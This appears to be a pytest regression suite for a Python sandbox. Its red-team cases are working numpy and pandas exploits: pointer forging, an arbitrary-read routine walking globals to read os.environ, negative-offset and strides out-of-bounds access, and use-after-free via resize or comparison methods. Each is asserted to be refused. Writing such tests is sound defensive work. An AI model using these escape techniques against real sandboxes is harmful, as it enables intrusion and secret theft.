"""numpy members that turn integers or freed memory into object pointers (red-team round 8).

``np.ndarray(shape, dtype=<with objects>, buffer=<ints>)`` reads the buffer's integers as
``PyObject *``: any address becomes an object (a fake ndarray written into a ``bytes`` gives
arbitrary memory read, then the globals dict of a sandbox function, ``sys.modules``,
``os.environ``). ``a.resize(n, refcheck=False)`` frees the memory a view still points at
(use after free). Both are refused at the call, whichever route reaches the class or method.

The other direction (red team 3): a writable *integer* view of an object array's pointers,
made by ``np.ndarray((n,), "i8", buffer=objects)`` or by ``np.asarray`` of
``objects.data.cast("B").cast("q")`` (``ndarray.data`` is a memoryview); writing an address
there made ``objects[0]`` any object. A program holds no memoryview, and ``buffer=`` takes
only bytes or arrays without objects.
"""
import numpy as np
import pandas as pd
import pytest

from sandbox import PolicyError, guards

BUF = 'buf = np.array([0], dtype="i8")\n'

ATTACKS = [
    ("facade_class", BUF + 'np.ndarray((1,), dtype="O", buffer=buf)'),
    ("positional", BUF + 'np.ndarray((1,), "O", buf)'),
    ("struct_dtype", BUF + 'np.ndarray((1,), dtype=[("f", "O")], buffer=buf)'),
    ("nested_struct", BUF + 'np.ndarray((1,), dtype=[("s", [("f", "O")])], buffer=buf)'),
    ("type_of_array", BUF + 'type(buf)((1,), dtype="O", buffer=buf)'),
    ("subclass", BUF + 'class A(np.ndarray):\n    pass\nA((1,), dtype="O", buffer=buf)'),
    ("apply_kwargs", BUF + 'pd.Series([(1,)]).apply(np.ndarray, dtype="O", buffer=buf)'),
    ("builtin_map", BUF + 'list(map(np.ndarray, [(1,)], ["O"], [buf]))'),
    ("star_args", BUF + 'args = [(1,), "O", buf]\nnp.ndarray(*args)'),
    ("piecewise", BUF + 'np.piecewise(np.zeros(1), [np.ones(1, dtype=bool)], [np.ndarray], dtype="O", buffer=buf)'),
    ("objects_as_int_buffer", 'np.ndarray((2,), dtype="i8", buffer=np.array([None, None], dtype="O"))'),
    ("objects_as_int_buffer_positional", 'np.ndarray((2,), "i8", np.array([None, None], dtype="O"))'),
    ("struct_objects_as_int_buffer",
     'np.ndarray((2,), dtype="i8", buffer=np.zeros(1, dtype=[("f", "O"), ("g", "O")]))'),
    ("objects_as_int_buffer_apply",
     'pd.Series([(2,)]).apply(np.ndarray, dtype="i8", buffer=np.array([None, None], dtype="O"))'),
    ("array_data_memoryview", 'np.array([None], dtype="O").data'),
    ("memoryview_cast_view", 'np.asarray(np.array([None], dtype="O").data.cast("B").cast("q"))'),
    ("memoryview_getattr", 'getattr(np.array([None], dtype="O"), "data")'),
    ("scalar_data_memoryview", 'np.float64(1.0).data'),
    ("series_values_data", 'pd.Series(["a"], dtype="O").values.data'),
    # red team 4: numpy does not check that offset >= 0 (and checks offset + size in C integers)
    ("negative_offset_read", 'np.ndarray((1,), "i8", buffer=np.zeros(2, dtype="i8"), offset=-8)'),
    ("negative_offset_write", 'w = np.zeros(2, dtype="i8")\nv = np.ndarray((4,), "i8", buffer=w, offset=-32)\nv[0] = 1'),
    ("negative_offset_bytes", 'np.ndarray((1,), "i8", buffer="0123456789abcdef".encode(), offset=-4096)'),
    ("negative_offset_empty_view", 'np.ndarray((0,), "i8", buffer=np.zeros(2), offset=-8000000)'),
    ("wrapping_offset", 'np.ndarray((1,), "i8", buffer=np.zeros(2), offset=2 ** 63 - 1)'),
    ("offset_past_end", 'np.ndarray((0,), "i8", buffer=np.zeros(2), offset=17)'),
    ("negative_strides_before_buffer",
     'np.ndarray((2,), "i8", buffer=np.zeros(4), offset=8, strides=(-16,))'),
    ("negative_offset_scalar_buffer", 'np.ndarray((1,), "i8", buffer=np.int64(7), offset=-8)'),
    ("negative_offset_positional", 'np.ndarray((1,), "i8", np.zeros(2), -8)'),
    ("negative_offset_apply",
     'pd.Series([(1,)]).apply(np.ndarray, dtype="i8", buffer=np.zeros(2), offset=-8)'),
    ("resize_refcheck", 'a = np.zeros(3, dtype="O")\nv = a[:]\na.resize(100000, refcheck=False)\nv.tolist()'),
    ("resize_unbound", 'a = np.zeros(3)\nv = a[:]\nnp.ndarray.resize(a, 100000, refcheck=False)\nv.tolist()'),
    ("resize_getattr", 'a = np.zeros(3)\nv = a[:]\ngetattr(a, "resize")(100000, refcheck=False)\nv.tolist()'),
]

# object from address, then a fake ndarray (numpy 2 layout) in a bytes object: arbitrary read
LEAK_ENVIRON = '''
U8 = np.dtype("<u8")
keep = []

def obj_at(addr):
    ptrs = np.array([addr], dtype="<i8")
    keep.append(ptrs)
    return np.ndarray((1,), dtype="O", buffer=ptrs)[0]

def read8(addr):
    b = np.array([0] * 14, dtype="<i8").tobytes()
    base = id(b) + 32
    b = np.array([1 << 40, id(np.ndarray), addr, 1, base + 96, base + 104, 0, id(U8), 0x103, 0, 0, 0, 1, 8],
                 dtype="<i8").tobytes()
    keep.append(b)
    return int(obj_at(id(b) + 32)[0])

def lookup(d, key):
    keys = read8(id(d) + 32)
    meta = read8(keys + 8)
    size, off = (16, 0) if (meta >> 16) & 255 else (24, 8)
    start = keys + 32 + (1 << ((meta >> 8) & 255))
    want = [id(k) for k in d.keys() if k == key][0]
    for i in range(read8(keys + 24)):
        if read8(start + i * size + off) == want:
            return read8(start + i * size + off + 8)

G = obj_at(read8(id(getattr) + 16))
S = obj_at(read8(lookup(G, "sys") + 16))
OSD = obj_at(read8(lookup(S["modules"], "os") + 16))
OSD["environ"]["BINDER_RED_CANARY"]
'''


# the integer view of an object array's pointers (memoryview route), then the same walk as above
LEAK_ENVIRON_POINTER_VIEW = '''
a = np.array([None], dtype="O")
q = np.asarray(a.data.cast("B").cast("q"))

def le(n):
    n = n & 0xFFFFFFFFFFFFFFFF
    return "".join([chr((n >> (8 * i)) & 255) for i in range(8)]).encode("latin-1")

hdr = le(1 << 40) + le(id(type(b""))) + le(1 << 50) + le(-1)
base = id(hdr) + 32
q[0] = base
fake = a[0]

def read8(addr):
    return int.from_bytes(fake[addr - base - 32: addr - base - 24], "little")

def obj_at(addr):
    q[0] = addr
    return a[0]

def module_dict(pairs, name):
    return obj_at(read8(read8(id([p for p in pairs if p[0] == name][0]) + 32) + 16))

G = obj_at(read8(id(pd.merge) + 16))
INSPECT = module_dict(list(module_dict(list(G.items()), "com").items()), "inspect")
OSD = module_dict(list(INSPECT.items()), "os")
q[0] = 0
OSD["environ"]["BINDER_RED_CANARY"]
'''


# red team 4: a writable integer view *below* an integer array (np.ndarray(buffer=w, offset=-N)) reaches
# the pointers of object arrays allocated before it; one of them is then "the object at any address"
LEAK_ENVIRON_NEGATIVE_OFFSET = '''
marker = "MARKER-%d" % 12345
other = "OTHER-%d" % 12345
spray = [np.array([marker] * 4, dtype="O") for i in range(200)]
w = np.zeros(4, dtype="i8")
K = 1 << 18
v = np.ndarray((K,), "i8", buffer=w, offset=-8 * K)
j = int(np.flatnonzero(v == id(marker))[-1])
v[j] = id(other)
slot = [(k, i) for k in range(len(spray)) for i in range(4) if spray[k][i] is other][0]

def obj_at(addr):
    v[j] = addr
    return spray[slot[0]][slot[1]]

def le(n):
    n = n & 0xFFFFFFFFFFFFFFFF
    return "".join([chr((n >> (8 * i)) & 255) for i in range(8)]).encode("latin-1")

hdr = le(1 << 40) + le(id(type(b""))) + le(1 << 50) + le(-1)
base = id(hdr) + 32
fake = obj_at(base)

def read8(addr):
    if addr < base + 32:
        return int(np.ndarray((1,), "<u8", buffer=hdr, offset=addr - base)[0])
    return int.from_bytes(fake[addr - base - 32: addr - base - 24], "little")

def module_dict(pairs, name):
    return obj_at(read8(read8(id([p for p in pairs if p[0] == name][0]) + 32) + 16))

G = obj_at(read8(id(pd.merge) + 16))
INSPECT = module_dict(list(module_dict(list(G.items()), "com").items()), "inspect")
OSD = module_dict(list(INSPECT.items()), "os")
v[j] = id(marker)
OSD["environ"]["BINDER_RED_CANARY"]
'''


@pytest.mark.parametrize("program", [LEAK_ENVIRON, LEAK_ENVIRON_POINTER_VIEW, LEAK_ENVIRON_NEGATIVE_OFFSET],
                         ids=["object_dtype_buffer", "pointer_view", "negative_offset"])
def test_environment_does_not_leak(monkeypatch, program):
    from sandbox import Sandbox
    from sandbox_testutil import SMALL

    monkeypatch.setenv("BINDER_RED_CANARY", "sk-canary-123")
    with Sandbox(SMALL, pool_size=1) as box:
        outcome = box.run(program)
    assert "sk-canary-123" not in repr(outcome.value)
    assert not outcome.ok and outcome.error.kind == "policy", outcome.error


@pytest.mark.parametrize("name,program", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_raw_memory_route_is_refused(sb, name, program):
    outcome = sb.run(program)
    assert not outcome.ok, f"{name} was not refused: {outcome.value!r}"
    assert outcome.error.kind == "policy", outcome.error


def test_ndarray_still_works(sb):
    program = (
        'a = np.zeros(3)\n'
        'b = np.ndarray((2,), dtype="i8", buffer=np.arange(2))\n'
        'c = np.ndarray((2, 2))\n'
        'd = np.concatenate([np.arange(4), np.zeros(2, dtype=int)])\n'
        'd.flat = [0, 1, 2, 3, 0, 0]\n'
        'e = np.ndarray((1,), dtype="O")\n'
        'f = np.ndarray((2,), dtype="u1", buffer="ab".encode())\n'
        'g = np.ndarray((1,), dtype="i8", buffer=np.int64(7))\n'
        'h = np.ndarray((2,), "i8", buffer=np.arange(4), offset=8, strides=(16,))\n'
        'k = np.ndarray((2,), "i8", buffer=np.arange(4), offset=24, strides=(-16,))\n'
        '[isinstance(a, np.ndarray), type(a) is np.ndarray, isinstance(1, np.ndarray), b.tolist(), c.shape,\n'
        ' d.tolist(), int(np.ndarray.sum(np.arange(3))), e.tolist(), isinstance(pd.Series([1]).values, np.ndarray),\n'
        ' f.tolist(), g.tolist(), h.tolist(), k.tolist(), np.ndarray(3, "u1", b"abc", 0).tolist()]'
    )
    outcome = sb.run(program)
    assert outcome.ok, outcome.error
    assert outcome.value == [True, True, False, [0, 1], (2, 2), [0, 1, 2, 3, 0, 0], 3, [None], True, [97, 98], [7], [1, 3], [3, 1], [97, 98, 99]]


def test_value_check_never_hands_out_the_raw_class():
    stand_in = guards.check_value(np.ndarray, "ndarray")
    assert stand_in is not np.ndarray and isinstance(np.zeros(1), stand_in)
    with pytest.raises(PolicyError):
        stand_in((1,), dtype="O", buffer=np.zeros(1, dtype="i8"))
    with pytest.raises(PolicyError):
        stand_in((1,), dtype="i8", buffer=np.array([None], dtype="O"))
    with pytest.raises(PolicyError):
        stand_in((1,), dtype="i8", buffer=np.zeros(2, dtype="i8"), offset=-8)
    with pytest.raises(PolicyError):
        guards.check_value(np.zeros(1).data, "data", name_checked=True)
    resize = guards.check_value(np.zeros(2).resize, "resize", name_checked=True)
    with pytest.raises(PolicyError):
        resize(4, refcheck=False)
    with pytest.raises(PolicyError):
        resize(4)
    assert pd.Series([1]).values.dtype.kind == "i"


# red team 4: numpy's loops over object arrays hold the array's pointers without a reference while
# they call a comparison (the pivot of an in-place sort, the running maximum of np.maximum/argmax):
# a program-defined __lt__ that replaced the array's items freed objects the sort then wrote back
# (the worker died with SIGSEGV; a use after free). A program class may not define comparisons.
#: sorts the object array a, then makes new objects and reads a (a freed pointer in it is then garbage)
SORT_THEN_READ = 'a.sort()\njunk = [str(i) * 3 for i in range(100000)]\nrepr(a)\n'
SORT_USE_AFTER_FREE = '''
state = {"n": 0}
class K:
    def __init__(self, v):
        self.v = v
    def __lt__(self, o):
        state["n"] += 1
        if state["n"] == 3:
            for i in range(len(a)):
                a[i] = K(100 + i)
        if isinstance(o, K) and isinstance(self, K):
            return self.v < o.v
        return False
a = np.array([K(i) for i in range(12)], dtype="O")
''' + SORT_THEN_READ

COMPARISON_DEFINITIONS = [
    ("sort_use_after_free", SORT_USE_AFTER_FREE),
    ("maximum_running_pointer",
     'class K:\n    def __ge__(self, o):\n        a[0] = None\n        return True\n'
     'a = np.array([K(), K()], dtype="O")\nnp.maximum(a, a[::-1])'),
    ("argmax_running_pointer",
     'class K:\n    def __gt__(self, o):\n        a[0] = None\n        return False\n'
     'a = np.array([K(), K()], dtype="O")\na.argmax()'),
    ("eq_in_hash_table",
     'class K:\n    def __eq__(self, o):\n        a[:] = None\n        return True\n'
     'a = np.array([K(), K()], dtype="O")\npd.unique(a)'),
    ("ne", "class K:\n    def __ne__(self, o):\n        return True\n1"),
    ("le_nested", "class A:\n    class B:\n        def __le__(self, o):\n            return True\n1"),
]


@pytest.mark.parametrize("name,program", COMPARISON_DEFINITIONS, ids=[c[0] for c in COMPARISON_DEFINITIONS])
def test_program_classes_define_no_comparisons(sb, name, program):
    outcome = sb.run(program)
    assert not outcome.ok and outcome.error.kind == "policy", outcome.error
    assert "may not define comparisons" in outcome.error.message


# red team 9: a class that defines no comparison may still inherit one written in Python that runs program
# code: collections.Counter's a < b reads b[key] for every key of a, and with defaultdict's __missing__ first
# (class K(defaultdict, Counter)) a missing key calls the instance's default_factory, a program function,
# in the middle of numpy's sort (the worker died with SIGSEGV, as with the __lt__ of red team 4)
INHERITED_COMPARISON_SORT = '''
import collections
class K(collections.defaultdict, collections.Counter):
    pass
state = {"n": 0}
def f():
    state["n"] = state["n"] + 1
    if state["n"] == 3:
        for i in range(len(a)):
            b = K(f)
            b["v"] = 100 + i
            a[i] = b
    return 0
ks = []
for i in range(12):
    k = K(f)
    k["v"] = i
    k["w" + str(i)] = 1
    ks.append(k)
a = np.array(ks, dtype="O")
ks = None
k = None
''' + SORT_THEN_READ

INHERITED_COMPARISONS = [
    ("sort_use_after_free", INHERITED_COMPARISON_SORT),
    ("argmax_running_pointer",
     'import collections\nclass K(collections.defaultdict, collections.Counter):\n    pass\n'
     'def f():\n    a[0] = None\n    return 0\n'
     'a = np.array([K(f, p=1), K(f, q=1)], dtype="O")\na.argmax()'),
    ("through_a_program_base",
     'import collections\nclass A(collections.defaultdict):\n    pass\n'
     'class K(A, collections.Counter):\n    pass\n1'),
]


@pytest.mark.parametrize("name,program", INHERITED_COMPARISONS, ids=[c[0] for c in INHERITED_COMPARISONS])
def test_program_classes_inherit_no_comparisons_that_run_program_code(sb, name, program):
    outcome = sb.run(program)
    assert not outcome.ok and outcome.error.kind == "policy", outcome.error
    assert "derive from Counter or defaultdict, not both" in outcome.error.message


def test_counter_and_defaultdict_classes_still_work(sb):
    program = (
        'import collections\n'
        'class C(collections.Counter):\n    pass\n'
        'class D(collections.defaultdict):\n    pass\n'
        'class E(collections.Counter, collections.defaultdict):\n    pass\n'
        'd = D(list)\nd["a"].append(1)\n'
        '[C("aab") < C("aabb"), C("ab") == C("ba"), dict(d), E("ab")["z"]]'
    )
    outcome = sb.run(program)
    assert outcome.ok, outcome.error
    assert outcome.value == [True, True, {"a": [1]}, 0]


def test_classes_without_comparisons_still_work(sb):
    program = (
        'class K:\n'
        '    def __init__(self, v):\n'
        '        self.v = v\n'
        '    def __contains__(self, x):\n'
        '        return x == self.v\n'
        'ks = [K(3), K(1), K(2)]\n'
        '[[k.v for k in sorted(ks, key=lambda k: k.v)], 1 in K(1), 2 in K(1)]'
    )
    outcome = sb.run(program)
    assert outcome.ok, outcome.error
    assert outcome.value == [[1, 2, 3], True, False]


# red team 4: numpy's strides setter checks new strides against the memory under the array, but for an
# array over a buffer that is not an array (the job's table mapped in the worker, bytes) it adds the
# view's offset into the buffer to the buffer's length: y = x[k:]; y.strides = (2 * s,) reached up to k
# elements past the end, writable for the table's columns
STRIDES_PAST_TABLE = (
    'x = df["b"].array.to_numpy()\n'
    'y = x[100000:]\n'
    'y.strides = (16,)\n'
    'y[-1] = 1.0\n'
    'float(y[-1])'
)
STRIDES_PAST_BYTES = (
    'b = "0123456789abcdef0123456789abcdef".encode()\n'
    'v = np.ndarray((2,), "i8", buffer=b, offset=16)\n'
    'v.strides = (24,)\n'
    'int(v[1])'
)


@pytest.mark.parametrize("program", [STRIDES_PAST_TABLE, STRIDES_PAST_BYTES], ids=["table", "bytes"])
def test_strides_cannot_reach_past_the_buffer(sb, program):
    table = pd.DataFrame({"a": np.arange(200000, dtype="i8"), "b": np.arange(200000.0)})  # big: shared memory
    outcome = sb.run(program, variables={"df": table})
    assert not outcome.ok and outcome.error.kind == "policy", outcome
    assert "strides" in outcome.error.message


def test_array_writes_still_work(sb):
    program = (
        'a = np.zeros((2, 3))\n'
        'a[0, 1] = 5\n'
        'a[1] += 2\n'
        'a = a.reshape(3, 2)\n'
        'a[0] = [1, 2]\n'
        'b = np.arange(4)\n'
        'b[b > 1] = 0\n'
        'c = np.arange(6.0)\n'
        'c = c.view(np.int64)\n'
        'd = np.arange(3).view(np.ndarray)\n'  # (a program subclass of ndarray is refused: test_program_classes.py)
        'd[0] = 7\n'
        '[a.tolist(), b.tolist(), c.shape, d.tolist()]'
    )
    outcome = sb.run(program)
    assert outcome.ok, outcome.error
    assert outcome.value == [[[1.0, 2.0], [0.0, 2.0], [2.0, 2.0]], [0, 1, 0, 0], (6,), [7, 1, 2]]


# red team 5: np.asarray(index) is the Index's own array (not a view), so a program could change the
# length of an array pandas holds and trusts: resize(n) (numpy's refcheck counts only pandas' reference
# and the call's) or setting its dtype or shape. A 3-row frame's index became 200,000 (or 24) long and
# df.take([...]) read far past the end of the column (before the fix these programs returned heap bytes).
LENGTH_CHANGES = [
    ("resize", 'a = np.asarray(d.index)\na.resize(200000)'),
    ("resize_chained", 'np.asarray(d.index).resize(200000)'),
    ("resize_unbound", 'np.ndarray.resize(np.asarray(d.index), 200000)'),
    ("resize_getattr", 'getattr(np.asarray(d.index), "resize")(200000)'),
    ("dtype", 'a = np.asarray(d.index)\na.dtype = "i1"'),
    ("shape", 'a = np.asarray(d.index)\na.shape = (1, 3)'),
    ("strides", 'a = np.asarray(d.index)\na.strides = (0,)'),
]


@pytest.mark.parametrize("name,change", LENGTH_CHANGES, ids=[c[0] for c in LENGTH_CHANGES])
def test_array_pandas_holds_keeps_its_length(sb, name, change):
    program = ('d = pd.DataFrame({"v": [1.5, 2.5, 3.5]}, index=pd.Index([10, 20, 30]))\n' + change +
               '\n[len(d.index), d.take([20, 23])["v"].tolist()]')
    outcome = sb.run(program)
    assert not outcome.ok, f"{name} ran: {outcome.value!r}"
    assert outcome.error.kind == "policy", outcome.error


def test_array_contents_can_still_be_set(sb):
    outcome = sb.run('a = np.zeros(3)\na.flat = [1, 2, 3]\na[0] = 7\nb = a.reshape(3, 1)\n'
                     'c = np.zeros(2, dtype=complex)\nc.real = [1, 2]\nc.imag = [3, 4]\n'
                     '[a.tolist(), b.shape, c.real.tolist(), c.imag.tolist()]')
    assert outcome.ok, outcome.error
    assert outcome.value == [[7.0, 2.0, 3.0], (3, 1), [1.0, 2.0], [3.0, 4.0]]
